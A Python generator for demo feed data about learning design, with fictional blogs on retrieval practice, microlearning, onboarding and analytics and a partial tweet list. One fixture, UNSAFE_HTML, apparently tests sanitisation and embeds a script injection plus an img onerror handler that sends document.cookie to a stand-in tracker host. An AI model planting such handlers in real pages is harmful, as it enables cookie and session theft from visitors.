"""Write the bundled example data that `make demo` curates (examples/data/).

The Personal Learning Network of Sam Whitfield, a learning experience designer: six blogs (RSS 2.0
and Atom), two X/Twitter API v2 timeline exports as saved by twarc2, one #lrnchat transcript, a
feed URL that answered with an HTML error page, and `expected.json`, the outcomes a test can
assert. All text is written for this project.

Every item is designed to be unambiguous for phrase and hashtag matching by lemma: it either uses
one or more of a topic's phrases (or hashtags) in lower case, or none of any topic's. Near-misses
use the tempting words alone ("user onboarding", "data retrieval", "record store", "spaced out").
The output is a pure function of SEED: run it twice and the bytes are identical.

    python tools/make_example.py [--out examples/data]
"""

from __future__ import annotations

import argparse
import json
import random
import re
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from email.utils import format_datetime
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

SEED = 2026
ROOT = Path(__file__).resolve().parents[1]
DEFAULT_OUT = ROOT / "examples" / "data"
START = datetime(2026, 8, 3, tzinfo=UTC)
END = datetime(2026, 11, 25, 18, 0, tzinfo=UTC)

# Topic keys used in roles, and the topic ids of examples/pln.yaml.
TOPICS = {
    "rp": "retrieval-practice",
    "ml": "microlearning",
    "ob": "onboarding",
    "la": "learning-analytics",
}

# ---------------------------------------------------------------------------------------------
# Blog content. A role is "rp", "rp+ml" (on-topic for those topics), "near:<key>" (a tempting
# near-miss for that topic, matching nothing) or "other" (matching nothing).
# Paragraph banks: on-topic posts draw from their topics' banks, the rest from GENERAL.
# ---------------------------------------------------------------------------------------------

BANKS = {
    "rp": [
        'The short version: <a href="https://evidence.example.org/spacing">the spacing effect</a>'
        " is one of the most replicated findings in cognitive psychology. When we spread practice"
        " out, people forget a little between sessions, and the effort of pulling the idea back"
        " is what makes it stick.",
        "Retrieval practice does not have to mean a graded quiz. A two-question warm-up, a"
        " blank-page brain dump or an <em>explain it to a colleague</em> prompt all ask people to"
        " pull knowledge out rather than read it again.",
        "We scheduled three follow-up prompts after the workshop: day 2, day 9 and day 30."
        " Answering the spaced practice prompts was voluntary, yet most participants answered"
        " all three.",
        "The forgetting curve gets quoted, and misquoted, a lot. Ebbinghaus memorised nonsense"
        " syllables, not customer-service scripts, so treat the exact percentages with caution;"
        " the shape of the curve is the useful part.",
        "Spaced repetition tools such as flashcard apps work best for discrete facts: product"
        " codes, drug interactions, safety thresholds. For judgement calls, use scenario questions"
        " and revisit them at widening intervals.",
        "A practical rule: every time you are tempted to add a summary slide, replace it with a"
        " retrieval practice question. Let people struggle for thirty seconds before you show"
        " the answer.",
        "If you only change one thing, stop cramming everything into a single day. Split the"
        " same hours into three shorter sessions a week apart and open each one with a little"
        " retrieval practice.",
    ],
    "ml": [
        "Microlearning is not the same course cut into pieces. A good five-minute lesson has one"
        " job: one decision, one procedure or one misconception to fix.",
        "We publish bite-sized learning on the channel people already use, which is chat, not the"
        " LMS. Reach went from a few hundred views a month to several thousand.",
        "Learning in the flow of work means the help is there at the moment of need: a checklist"
        " linked from the ticketing tool, a 90-second video next to the form people get wrong.",
        "Mobile learning works when the content respects the context: short, readable one-handed,"
        " no audio required. Captions are not optional.",
        "Before building a microlearning series, ask what people will do differently after each"
        " piece. If you cannot name it, it is a content dump, not a lesson.",
        "Our just-in-time learning cards are written by the people who do the job, reviewed by"
        ' the L&amp;D team, and retired when the process changes. See <a href="https://cards.'
        'example.com/gallery">the card gallery</a>.',
    ],
    "ob": [
        "Employee onboarding starts before day one. A short welcome note, the calendar for the"
        " first week and the name of a buddy remove most of the anxiety new starters describe.",
        "We rebuilt our onboarding program around the first 90 days instead of the first week:"
        " checkpoints at day 30, 60 and 90 with the manager, not just HR paperwork.",
        "The onboarding buddy is the single most valued part of the experience in our surveys."
        " Buddies get a one-page guide and an hour a week protected in their calendar.",
        "New hire onboarding fails quietly: people do not complain, they just take longer to find"
        " their feet, or leave within the year.",
        "Preboarding is where you send the laptop, the access requests and a friendly video from"
        " the team, so that day one is about people rather than passwords.",
        'Managers own onboarding; L&amp;D designs the scaffolding. Our <a href="https://people.'
        'northwind.example/toolkit">manager toolkit</a> has a checklist for the first 90 days and'
        " a nudge when a checkpoint is due.",
    ],
    "la": [
        "Learning analytics should start with a question the business cares about, not with the"
        " data the LMS happens to export.",
        "We moved from completion reports to xAPI statements sent to a learning record store, so"
        " we can see which practice questions people get wrong, not just who clicked finish.",
        "Completion rates tell you about compliance, not capability. Pair them with performance"
        " data from the team that asked for the training.",
        "A learning analytics dashboard with three numbers the sponsor chose beats a forty-tile"
        " report nobody opens.",
        "Kirkpatrick level 1 smile sheets are cheap; level 3 evidence of behaviour change takes"
        " partners in operations. Budget for that conversation.",
        "Before you build anything, write down the xAPI verbs you will use and who reads the"
        ' statements. Otherwise the learning record store becomes a landfill (see <a href="https:'
        '//xapi.example.org/verbs">the verb list</a>).',
    ],
}

GENERAL = [
    "Good facilitation is mostly preparation: know the three questions you want the group to"
    " leave with, and be ready to drop half your slides.",
    "Accessibility is a design constraint, not a final check. Caption your videos, write alt text"
    " that says why the image is there, and test everything with a keyboard.",
    "We asked participants what they remembered a month later. The answer was almost always a"
    " story someone in the room told, never a model on a slide.",
    "Generative AI tools draft a decent first outline, but they cannot tell you what your"
    " learners already believe. Talk to five of them first.",
    "A community needs a gardener: someone who notices quiet members, connects people and closes"
    " threads that have run their course.",
    "Workshop design tip: plan the energy, not just the content. Put the hardest conversation"
    " after a break, never straight after lunch.",
    "Conference notes are only useful if you do something with them. I pick one idea per event"
    ' and try it within two weeks. <a href="https://notes.example.net/one-idea">Here is the'
    " template</a> I use.",
    "None of this needs a big budget. It needs someone to care about the details and to ask the"
    " people in the room what would help them.",
]


@dataclass
class Post:
    title: str
    role: str
    lede: str
    categories: tuple[str, ...] = ()
    extra_html: str = ""  # appended verbatim (used for the unsafe-HTML entry)
    guid: bool = True  # False: an RSS item without <guid>


@dataclass
class Blog:
    key: str
    file: str
    format: str  # "rss" or "atom"
    title: str
    site: str
    description: str
    authors: tuple[str, ...]
    tz_hours: int
    posts: list[Post]
    relative_links: bool = False  # content links relative to the site, no base given
    xml_base: bool = False  # Atom: relative entry links resolved by xml:base
    cdata: bool = True  # RSS: content:encoded in CDATA rather than escaped


def P(title, role, lede, *categories, **kw) -> Post:  # noqa: N802 - reads like a table row
    return Post(title, role, lede, tuple(categories), **kw)


UNSAFE_HTML = (
    "<script>document.write('<iframe src=\"https://polls.example.com/embed/8812\"></iframe>')"
    "</script>"
    '<p><img src="https://people.northwind.example/img/welcome-box.jpg" alt="The welcome box"'
    " onerror=\"this.src='https://tracker.example.net/p.gif?c='+document.cookie\"></p>"
)

BLOGS = [
    Blog(
        key="fc",
        file="forgetting-curve.xml",
        format="rss",
        title="The Forgetting Curve",
        site="https://forgettingcurve.example.org",
        description="Maya Okafor on evidence-informed learning design.",
        authors=("Maya Okafor",),
        tz_hours=0,
        posts=[
            P(
                "Retrieval Practice Without the Quiz Anxiety",
                "rp",
                "Retrieval practice gets a bad name when it feels like an exam. These are the"
                " low-stakes formats that worked in our leadership programme.",
                "Retrieval Practice",
                "Evidence",
            ),
            P(
                "What We Learned From Six Months of Spaced Practice Nudges",
                "rp",
                "We sent spaced practice prompts after every compliance workshop for six months."
                " Some of the results surprised us.",
                "Spaced Repetition",
                "Case Study",
            ),
            P(
                "The Forgetting Curve Is Not a Reason to Panic",
                "rp",
                "Vendors love the forgetting curve chart. The research behind it is older and"
                " narrower than the slides suggest.",
                "Evidence",
            ),
            P(
                "Spaced Repetition Meets Microlearning: A Pilot in Field Sales",
                "rp+ml",
                "Our field sales team got one five-minute lesson and two spaced repetition"
                " questions a week for a whole quarter.",
                "Spaced Repetition",
                "Microlearning",
            ),
            P(
                "Designing Retrieval Questions That Aren't Trivia",
                "rp",
                "Good retrieval practice questions ask for a decision, not a definition. A few"
                " before-and-after rewrites from last month.",
                "Retrieval Practice",
            ),
            P(
                "Reading Group Notes: The Spacing Effect",
                "rp",
                "Our reading group spent October on the spacing effect literature. My notes, with"
                " the usual caveats about lab studies.",
                "Evidence",
                "Reading Group",
            ),
            P(
                "Three Retrieval Practice Warm-Ups for Virtual Sessions",
                "rp",
                "Virtual sessions lose attention in the first five minutes. Start with retrieval"
                " practice instead of an agenda slide.",
                "Retrieval Practice",
                guid=False,
            ),
            P(
                "Why Your Refresher Course Should Be Three Short Sessions",
                "rp",
                "The refresher course had a single four-hour slot. We turned it into spaced"
                " practice over three weeks and kept the hours the same.",
                "Course Design",
            ),
            P(
                "Measuring Recall, Not Completion",
                "la",
                "If your learning analytics stop at completion, you cannot tell whether anyone"
                " remembers anything. We added delayed recall checks to our xAPI statements.",
                "Measurement",
            ),
            P(
                "Making Space for Practice in a Busy Week",
                "near:rp",
                "Deliberate practice of facilitation skills needs room in the calendar. This is how"
                " I protect two quiet hours each Friday for it.",
                "Facilitation",
                "Habits",
            ),
            P(
                "Notes From the Northern L&D Summit",
                "other",
                "Two days in Manchester, eleven sessions, one very long coffee queue. The three"
                " talks I keep thinking about.",
                "Conferences",
            ),
            P(
                "On Writing Alt Text That Teaches",
                "other",
                "Alt text is not a caption and not a filename. It should say what the learner needs"
                " from the image.",
                "Accessibility",
            ),
            P(
                "A Reading List for Facilitators in Their First Year",
                "other",
                "Six books and two podcasts I recommend to people who have just started running"
                " workshops.",
                "Reading",
            ),
            P(
                "Repetition, Boredom and the Piano Lessons I Quit",
                "near:rp",
                "I quit piano at twelve because every lesson was the same scale, over and over."
                " Repetition without feedback is just noise.",
                "Personal",
            ),
            P(
                "Flashcards for Grown-Ups: Spaced Repetition in Compliance Training",
                "rp",
                "Compliance training is where spaced repetition earns its keep: a handful of rules"
                " that people must recall exactly.",
                "Spaced Repetition",
                "Compliance",
            ),
            P(
                "Why I Stopped Using Learning Styles Questionnaires",
                "other",
                "I used them for years. Then I read the studies properly and retired every"
                " questionnaire we had.",
                "Evidence",
            ),
            P(
                "Retrieval Practice for Managers, in One Page",
                "rp",
                "Managers asked for something they could use in a team meeting. This one-page"
                " guide to retrieval practice is the result.",
                "Retrieval Practice",
                "Managers",
            ),
            P(
                "Year-End Thoughts: What I Will Stop Doing in 2027",
                "other",
                "A short list of habits I am retiring next year, starting with the ninety-slide"
                " deck.",
                "Personal",
            ),
        ],
    ),
    Blog(
        key="sb",
        file="small-bites.atom",
        format="atom",
        title="Small Bites",
        site="https://smallbites.example.com",
        description="Tomás Reyes writes about short-form learning that people actually use.",
        authors=("Tomás Reyes",),
        tz_hours=-5,
        xml_base=True,
        posts=[
            P(
                "Microlearning Is a Format, Not a Strategy",
                "ml",
                "Every quarter someone asks me for a microlearning strategy. What they need is a"
                " performance problem worth solving.",
                "Microlearning",
            ),
            P(
                "How We Write a Five-Minute Lesson",
                "ml",
                "Our five-minute lesson template fits on an index card: one decision, one example,"
                " one question.",
                "Microlearning",
                "Templates",
            ),
            P(
                "Bite-Sized Learning in Chat: Six Months In",
                "ml",
                "We moved our bite-sized learning from the LMS into the operations chat channel."
                " Half a year later, this is what changed.",
                "Microlearning",
                "Case Study",
            ),
            P(
                "Learning in the Flow of Work Starts With the Ticket Queue",
                "ml",
                "Learning in the flow of work is a nice phrase. In a support team it means a link"
                " inside the ticket, not an email about a course.",
                "Performance Support",
            ),
            P(
                "Mobile Learning for Frontline Staff Without a Company Phone",
                "ml",
                "Half our frontline staff have no company phone. Mobile learning still works if"
                " you design for QR codes and personal devices.",
                "Mobile",
            ),
            P(
                "Microlearning for New Hire Onboarding: Our Week-One Cards",
                "ml+ob",
                "New hire onboarding used to be a three-day slide marathon. Now it is twelve"
                " microlearning cards spread over the first week.",
                "Microlearning",
                "Onboarding",
            ),
            P(
                "Bite-Sized Snacks and Other Workshop Logistics",
                "near:ml",
                "Nobody learns while hungry. My catering checklist for full-day workshops,"
                " including snacks that do not leave sticky fingers on the sticky notes.",
                "Logistics",
            ),
            P(
                "What Microservices Taught Me About Course Design",
                "near:ml",
                "Our engineers split a monolith into microservices last year. Small, independent"
                " parts with clear contracts turned out to be good advice for courses too.",
                "Design",
            ),
            P(
                "Retiring Microlearning Content Gracefully",
                "ml",
                "A microlearning library rots faster than a course. Every card we publish now gets"
                " an owner and an expiry date.",
                "Microlearning",
                "Maintenance",
            ),
            P(
                "A Captions Checklist for Short Videos",
                "other",
                "Auto-generated captions are a first draft. Here is what we check before anything"
                " goes live.",
                "Accessibility",
            ),
            P(
                "Just-in-Time Learning Cards for the Returns Desk",
                "ml",
                "The returns desk wrote their own just-in-time learning cards. We only did the"
                " editing and the layout.",
                "Performance Support",
            ),
            P(
                "Storyboarding on Paper First",
                "other",
                "Before anyone opens an authoring tool, we sketch on paper. It is faster to throw"
                " away.",
                "Design",
            ),
            P(
                "The Microlearning Brief: One Page Before Any Build",
                "ml",
                "Every microlearning request now starts with a one-page brief. Half of them never"
                " need a build.",
                "Microlearning",
                "Templates",
            ),
            P(
                "My Favourite Authoring Tool Is a Whiteboard",
                "other",
                "A confession from someone who has licences for four authoring tools.",
                "Tools",
            ),
            P(
                "Spaced Repetition in Two-Minute Doses",
                "rp+ml",
                "Two-minute microlearning reviews, scheduled by a spaced repetition algorithm,"
                " turned out to be our most popular format this year.",
                "Microlearning",
            ),
            P(
                "Podcasts I Listened To on the Train This Autumn",
                "other",
                "Long commutes are good for something. My autumn listening list, from design to"
                " history.",
                "Personal",
            ),
        ],
    ),
    Blog(
        key="fn",
        file="first-ninety.xml",
        format="rss",
        title="First Ninety: the Northwind People & Learning Blog",
        site="https://people.northwind.example/blog",
        description="How Northwind Logistics welcomes, grows and keeps its people.",
        authors=("Nadia Haddad", "Rachel Osei", "Luis Moreno"),
        tz_hours=1,
        cdata=False,
        posts=[
            P(
                "Preboarding: What to Send Before Day One",
                "ob",
                "Preboarding used to be a contract and a parking permit. Now new starters get a"
                " welcome box, their first-week calendar and their onboarding buddy's name.",
                "Onboarding",
                "Preboarding",
                extra_html=UNSAFE_HTML,
            ),
            P(
                "Our First 90 Days Checklist for Managers",
                "ob",
                "Managers asked for one page covering the first 90 days. It took us four drafts to"
                " get there.",
                "Onboarding",
                "Managers",
            ),
            P(
                "Employee Onboarding for Warehouse Shifts",
                "ob",
                "Employee onboarding in a warehouse cannot be a week in a classroom. This is how we"
                " run it around shifts.",
                "Onboarding",
                "Operations",
            ),
            P(
                "The Onboarding Buddy Guide, Version 3",
                "ob",
                "Version 3 of the onboarding buddy guide is shorter, friendlier and finally"
                " includes what buddies should not do.",
                "Onboarding",
            ),
            P(
                "What Leavers Told Us About Their First Weeks",
                "ob",
                "Exit interviews kept pointing to the same gaps in new hire onboarding. We listened"
                " and changed three things.",
                "Onboarding",
                "Research",
            ),
            P(
                "Remote Employee Onboarding Across Four Time Zones",
                "ob",
                "Our support team now spans four time zones. Remote employee onboarding had to stop"
                " assuming everyone starts on a Monday morning.",
                "Onboarding",
                "Remote",
            ),
            P(
                "Onboarding Program Metrics We Actually Use",
                "ob+la",
                "We track four numbers for our onboarding program, and learning analytics helped us"
                " drop the eleven we never looked at.",
                "Onboarding",
                "Measurement",
            ),
            P(
                "Boarding Passes and Badges: Running an Offsite for 200",
                "near:ob",
                "Two hundred people, three coaches and one ferry. What our events team learned from"
                " this year's offsite.",
                "Events",
            ),
            P(
                "Welcome to the Team, Daniel!",
                "near:ob",
                "Please welcome Daniel Brooks, who joins us as our new fleet safety lead. He starts"
                " Monday in the Leeds depot.",
                "Announcements",
            ),
            P(
                "Mental Health First Aiders: Applications Open",
                "other",
                "We are training twelve more mental health first aiders in the spring. Here is how"
                " to apply.",
                "Wellbeing",
            ),
            P(
                "Our Learning Week Schedule",
                "other",
                "Learning Week is back in November, with sessions on negotiation, driving safety"
                " and spreadsheets.",
                "Events",
            ),
            P(
                "Ninety-Day Check-Ins: A Script for Managers",
                "ob",
                "A check-in script for the first 90 days, with the questions that get honest"
                " answers from new starters.",
                "Onboarding",
                "Managers",
            ),
            P(
                "Safety Stand-Downs That People Actually Listen To",
                "other",
                "A five-minute stand-down at shift start is only useful if it is a conversation."
                " Some tips from our depot leads.",
                "Safety",
            ),
            P(
                "Preboarding Emails That Don't Read Like Legal Notices",
                "ob",
                "Preboarding emails are the first thing a new starter reads from us. We rewrote all"
                " six of them.",
                "Onboarding",
                "Preboarding",
            ),
            P(
                "Book Club: Our Autumn Pick",
                "other",
                "The people team book club is reading about habits this autumn. Join us on"
                " Thursdays at lunch.",
                "Book Club",
            ),
            P(
                "Onboard Wi-Fi and Other Travel Tips for Field Trainers",
                "near:ob",
                "Our field trainers spend a lot of time on trains. Their tips for working on the"
                " move, from onboard Wi-Fi to quiet carriages.",
                "Travel",
            ),
            P(
                "Day One Without Passwords: IT and L&D Working Together",
                "ob",
                "New hire onboarding used to begin with an hour of password resets. This year IT"
                " and L&D fixed that together.",
                "Onboarding",
                "IT",
            ),
        ],
    ),
    Blog(
        key="sn",
        file="signal-and-noise.atom",
        format="atom",
        title="Signal & Noise in L&D",
        site="https://signalnoise.example.net",
        description="Priya Raman on data, evidence and measurement in learning.",
        authors=("Priya Raman",),
        tz_hours=5,
        posts=[
            P(
                "Learning Analytics Starts With a Question",
                "la",
                "Most learning analytics projects start with a data export. The good ones start"
                " with a question someone will act on.",
                "Learning Analytics",
            ),
            P(
                "xAPI Statements We Regret Sending",
                "la",
                "Three years of xAPI statements taught us which verbs are noise. A confession and a"
                " cleanup plan.",
                "xAPI",
            ),
            P(
                "Choosing a Learning Record Store in 2026",
                "la",
                "We evaluated five options for a learning record store this year. The criteria that"
                " mattered were not the ones on the vendor grids.",
                "xAPI",
                "Tools",
            ),
            P(
                "Completion Rates Are a Compliance Metric",
                "la",
                "Completion rates answer a compliance question. Learning analytics should answer a"
                " performance one.",
                "Learning Analytics",
            ),
            P(
                "A Three-Number Dashboard for Sponsors",
                "la",
                "Our learning analytics dashboard used to have forty tiles. Sponsors now get"
                " three numbers they chose themselves.",
                "Dashboards",
            ),
            P(
                "Using xAPI to See Whether Spaced Practice Works",
                "la+rp",
                "We sent xAPI statements from every spaced practice prompt to our learning record"
                " store and compared recall with the one-day cohort.",
                "xAPI",
                "Experiments",
            ),
            P(
                "What Marketing Analytics Taught Me About Attention",
                "near:la",
                "Before L&D I spent four years in marketing analytics. Attention is the scarce"
                " resource in both jobs.",
                "Career",
            ),
            P(
                "Saturday at the Record Store",
                "near:la",
                "Not everything is about data. I spent Saturday flipping through crates at the"
                " record store on Mill Lane.",
                "Personal",
            ),
            P(
                "Kirkpatrick Level 3 Without a Research Team",
                "la",
                "You can gather level 3 evidence without a research team. Learning analytics here"
                " means a partner in operations and two behaviours to observe.",
                "Evaluation",
            ),
            P(
                "Survey Questions I No Longer Ask",
                "other",
                "I deleted half the questions from our end-of-course survey. Nobody missed them.",
                "Surveys",
            ),
            P(
                "Privacy Notes for Learning Analytics Projects",
                "la",
                "Learning analytics touches personal data. Tell people what you collect, why, and"
                " for how long, before you collect it.",
                "Privacy",
            ),
            P(
                "Sports Analytics and the Myth of the Perfect Metric",
                "near:la",
                "My football club hired a sports analytics firm. The perfect metric they promised"
                " has not saved us from relegation.",
                "Personal",
            ),
            P(
                "Office Hours: Spreadsheets for L&D People",
                "other",
                "Every other Tuesday I run open office hours on spreadsheets. Bring your messiest"
                " file.",
                "Community",
            ),
            P(
                "Learning Record Store Migrations: A Checklist",
                "la",
                "Moving between learning record store vendors is mostly about exporting xAPI"
                " statements without losing context.",
                "xAPI",
                "Checklists",
            ),
            P(
                "Conference Season Recap",
                "other",
                "Four conferences in six weeks. The talks, the hallway conversations and the one"
                " demo that actually worked.",
                "Conferences",
            ),
            P(
                "Training Effectiveness Reviews That Lead to Decisions",
                "la",
                "A training effectiveness review is only useful if someone decides something at the"
                " end of it.",
                "Evaluation",
            ),
        ],
    ),
    Blog(
        key="nb",
        file="facilitators-notebook.xml",
        format="rss",
        title="The Facilitator's Notebook",
        site="https://facilitatorsnotebook.example.org",
        description="Grace Lindqvist on running rooms, online and off.",
        authors=("Grace Lindqvist",),
        tz_hours=2,
        relative_links=True,
        posts=[
            P(
                "Opening a Workshop Without an Icebreaker",
                "other",
                "I have not run an icebreaker in two years. Here is what I do in the first ten"
                " minutes instead.",
                "Openings",
            ),
            P(
                "The Parking Lot Is Where Questions Go to Die",
                "other",
                "If you use a parking lot, you owe people an answer before they leave.",
                "Techniques",
            ),
            P(
                "Ending Sessions With Retrieval Practice Instead of Q&A",
                "rp",
                "The last ten minutes of a session are prime time for retrieval practice. Asking"
                " for questions wastes them.",
                "Closings",
                "Retrieval Practice",
            ),
            P(
                "Facilitating in a Second Language",
                "other",
                "Half my workshops are in Swedish, half in English. What changes when I switch.",
                "Personal",
            ),
            P(
                "Silent Brainstorming, Revisited",
                "other",
                "Five minutes of silent writing before any discussion still beats every"
                " brainstorming game I know.",
                "Techniques",
            ),
            P(
                "Spaced Out: Facilitating After a Red-Eye Flight",
                "near:rp",
                "I landed at six, started at nine and was completely spaced out by eleven. What got"
                " me through the day.",
                "Travel",
            ),
            P(
                "What I Carry in My Facilitation Kit",
                "other",
                "Markers, a timer, painter's tape and a bag of dice. The full list, with reasons.",
                "Tools",
            ),
            P(
                "Microlearning Follow-Ups After a Workshop",
                "ml",
                "A workshop ends; the microlearning follow-ups begin. Three short pieces in the"
                " month after, each one tied to a commitment made in the room.",
                "Follow-Up",
            ),
            P(
                "Handling the Loudest Person in the Room",
                "other",
                "Every group has one. Here is how to give them space without giving them the"
                " session.",
                "Techniques",
            ),
            P(
                "Timeboxing Without Being a Tyrant",
                "other",
                "Visible timers, generous warnings and the occasional deliberate overrun.",
                "Techniques",
            ),
            P(
                "Hybrid Rooms: Camera Placement Matters More Than You Think",
                "other",
                "Remote participants see the back of heads unless you plan for it. Where to put the"
                " camera.",
                "Hybrid",
            ),
            P(
                "Facilitating Onboarding Cohorts",
                "ob",
                "Our client's new hire onboarding runs in monthly cohorts. Facilitating the"
                " onboarding program taught me to design for nervous people.",
                "Cohorts",
            ),
            P(
                "Energy Curves in a Full-Day Session",
                "other",
                "Every full day has a slump after lunch. Plan the agenda around it, not against"
                " it.",
                "Design",
            ),
            P(
                "Getting Stakeholders On Board Early",
                "near:ob",
                "Workshops fail before they start when sponsors are not on board. Three"
                " conversations I now have in the first week.",
                "Stakeholders",
            ),
            P(
                "Closing Circles",
                "other",
                "One word each, around the room. The simplest closing I know still works.",
                "Closings",
            ),
            P(
                "Debriefing a Simulation",
                "other",
                "The simulation is the easy part. The debrief is where people make sense of it.",
                "Techniques",
            ),
        ],
    ),
    Blog(
        key="ac",
        file="acme-learning.atom",
        format="atom",
        title="Acme Learning Blog",
        site="https://acmelearning.example.com/blog",
        description="Product news and stories from Acme Learning.",
        authors=("Acme Learning Team", "Kofi Mensah"),
        tz_hours=-8,
        posts=[
            P(
                "Redesigning User Onboarding in the Acme App",
                "near:ob",
                "Our product team rebuilt user onboarding in the Acme app: fewer screens, a"
                " checklist and a sample course to play with.",
                "Product",
                "UX",
            ),
            P(
                "Microservices, Macro Gains: Our Platform Rebuild",
                "near:ml",
                "We moved the Acme platform to microservices this year. Deploys went from weekly to"
                " daily.",
                "Engineering",
            ),
            P(
                "Web Analytics Migration: What Changed on Our Website",
                "near:la",
                "We switched web analytics providers in September. Here is what changed for"
                " visitors and what did not.",
                "Engineering",
                "Privacy",
            ),
            P(
                "Acme Learning Raises Series B",
                "other",
                "We are thrilled to announce our Series B, led by Example Ventures.",
                "Company",
            ),
            P(
                "Release Notes: October 2026",
                "other",
                "Bulk enrolment, faster search and a new certificate designer.",
                "Release Notes",
            ),
            P(
                "Native xAPI Support Is Here",
                "la",
                "Acme now sends xAPI statements to any learning record store, so your learning"
                " analytics team can see more than completions.",
                "Product",
                "xAPI",
            ),
            P(
                "Meet Us at the Learning Technologies Expo",
                "other",
                "Find us at stand 214. We will be demoing the new certificate designer.",
                "Events",
            ),
            P(
                "Faster Content Retrieval With Our New Search Index",
                "near:rp",
                "Search results now arrive in under 200 milliseconds thanks to a new index. Content"
                " retrieval is faster for every admin.",
                "Engineering",
            ),
            P(
                "Customer Story: A Bank Moves Its Catalogue",
                "other",
                "How a regional bank moved 1,400 courses to Acme in eight weeks.",
                "Customers",
            ),
            P(
                "Release Notes: September 2026",
                "other",
                "Dark mode, calendar sync and an improved reports page.",
                "Release Notes",
            ),
            P(
                "Authoring Microlearning in Acme Studio",
                "ml",
                "Acme Studio now has a microlearning mode: a five-minute lesson template with one"
                " question at the end.",
                "Product",
                "Microlearning",
            ),
            P(
                "We're Hiring: Senior Frontend Engineer",
                "other",
                "Join the team building Acme Studio. Remote within Europe.",
                "Careers",
            ),
            P(
                "Security Update: SSO Changes",
                "other",
                "Single sign-on settings move to the new admin console on 1 December.",
                "Security",
            ),
            P(
                "Admin Webinar Recording: Setting Up Your Workspace",
                "near:ob",
                "Missed the admin webinar? The recording covers workspace setup, roles and the"
                " new onboarding checklist for administrators.",
                "Webinars",
            ),
            P(
                "Release Notes: November 2026",
                "other",
                "Recurring assignments, a new API for reports and many small fixes.",
                "Release Notes",
            ),
        ],
    ),
]

# ---------------------------------------------------------------------------------------------
# Microblog content: the owner's X/Twitter timeline (people Sam follows, plus what the algorithm
# mixes in). `{post:fc:0}` links blog post 0 of blog "fc"; `{link:URL}` any other link.
# ---------------------------------------------------------------------------------------------

OWNER = "sam_whitfield"

USERS = {
    # username: display name
    "sam_whitfield": "Sam Whitfield",
    "maya_okafor": "Maya Okafor",
    "tomasreyes_ld": "Tomás Reyes",
    "priya_raman": "Priya Raman",
    "grace_facilitates": "Grace Lindqvist",
    "northwind_people": "Northwind People & Learning",
    "dr_lena_fox": "Dr Lena Fox",
    "ben_carter_ld": "Ben Carter",
    "ana_souza_ld": "Ana Souza",
    "jkim_learns": "Jin Kim",
    "nadia_hr_learning": "Nadia Haddad",
    "omar_designs": "Omar Farouk",
    "rachel_ops": "Rachel Osei",
    "data_dan_ld": "Dan Whitaker",
    "lrnchat": "#lrnchat",
    "ldconf_eu": "L&D Conference Europe",
    "acme_learning": "Acme Learning",
    "coffee_and_code": "Coffee & Code",
    "search_nerd": "Search Nerd",
    "jazz_pianist_mo": "Mo Adeyemi",
    "travel_tina": "Tina Travels",
    "dev_rahul": "Rahul Mehta",
    "foodie_jen": "Jen Eats",
    "saas_growth_guru": "SaaS Growth Guru",
    "footy_phil": "Phil",
    "hr_memes": "HR Memes",
    "growth_hacker_sam": "Sam G.",
    "vinyl_vic": "Vic",
    "promo_king22": "💰 Promo King 💰",
    "earnfast_now": "EarnFast",
    "elearn_jobs": "eLearning Jobs Board",
    "cityrunners": "City Runners Club",
}

# Followed people whose items count more (boost_authors in pln.yaml). None of them posts a
# near-miss, so a boost can never be the only reason a near-miss scores.
PLN_MEMBERS = (
    "maya_okafor",
    "tomasreyes_ld",
    "priya_raman",
    "grace_facilitates",
    "northwind_people",
)


@dataclass
class Tweet:
    key: str
    author: str
    role: str
    text: str
    reply: str = ""  # key of the tweet this replies to
    quote: str = ""  # key of the quoted tweet
    rt: str = ""  # key of the retweeted tweet (its text is built from the original)
    hidden: bool = False  # only in includes.tweets (retweeted/quoted, not in the timeline)
    lang: str = "en"
    # filled while building
    id: str = ""
    created: datetime | None = None
    final_text: str = ""
    urls: list[dict] = field(default_factory=list)


def T(key, author, role, text="", **kw) -> Tweet:  # noqa: N802
    return Tweet(key, author, role, text, **kw)


TWEETS = [
    # --- retrieval practice / spaced repetition ---
    T(
        "rp1",
        "maya_okafor",
        "rp",
        "New post: retrieval practice without the quiz anxiety. The"
        " low-stakes formats that worked for our leadership programme {post:fc:0} #RetrievalPractice",
    ),
    T(
        "rp2",
        "maya_okafor",
        "rp",
        "Six months of spaced practice nudges after compliance"
        " workshops. Most people answered all three prompts. Write-up: {post:fc:1}"
        " #SpacedRepetition",
    ),
    T(
        "rp3",
        "dr_lena_fox",
        "rp",
        "Reminder that the spacing effect is one of the most robust"
        " findings we have. If your programme is one long day, you are leaving retention on the"
        " table. #RetrievalPractice",
        hidden=True,
    ),
    T(
        "rp4",
        "ben_carter_ld",
        "rp",
        "Tried retrieval practice as a warm-up in a virtual session"
        " today: 3 questions about last week, no slides. Best discussion we've had all quarter."
        " #RetrievalPractice",
    ),
    T(
        "rp5",
        "ana_souza_ld",
        "rp",
        "Our spaced repetition pilot for pharmacy techs: 2 questions a"
        " day for 6 weeks. Dosage-check errors down noticeably. #SpacedRepetition",
    ),
    T(
        "rp6",
        "jkim_learns",
        "rp",
        "Is there a good spaced repetition tool that plugs into Teams?"
        " Asking for a client who will not install another app. #SpacedRepetition",
    ),
    T(
        "rp7",
        "lrnchat",
        "rp",
        "Thursday on #lrnchat: spaced practice and retrieval practice. Bring"
        " your stories of what stuck, and what didn't. 8pm ET / 1am GMT",
    ),
    T(
        "rp8",
        "dr_lena_fox",
        "rp",
        "The forgetting curve slide in your vendor deck is probably not"
        " Ebbinghaus' data. The shape is real; the numbers usually are not. #RetrievalPractice",
        hidden=True,
    ),
    T(
        "rp9",
        "grace_facilitates",
        "rp",
        "Ended today's workshop with retrieval practice instead"
        " of Q&A: everyone wrote down the three ideas they'd use on Monday. Zero awkward silence."
        " {post:nb:2}",
    ),
    T(
        "rp10",
        "sam_whitfield",
        "rp",
        "Rebuilding our product training as spaced practice: three"
        " 40-minute sessions a week apart instead of one long afternoon. Wish us luck."
        " #SpacedRepetition",
    ),
    T(
        "rp11",
        "ben_carter_ld",
        "rp",
        "Flashcards are underrated for adults. Spaced repetition for"
        " safety thresholds in the warehouse and people asked for MORE cards. #SpacedRepetition"
        " #LnD",
    ),
    T(
        "rp12",
        "ana_souza_ld",
        "rp",
        "Tip for retrieval practice: ask for a decision, not a"
        " definition. 'What would you do next?' beats 'What is X?' every time.",
    ),
    T(
        "rp13",
        "tomasreyes_ld",
        "rp",
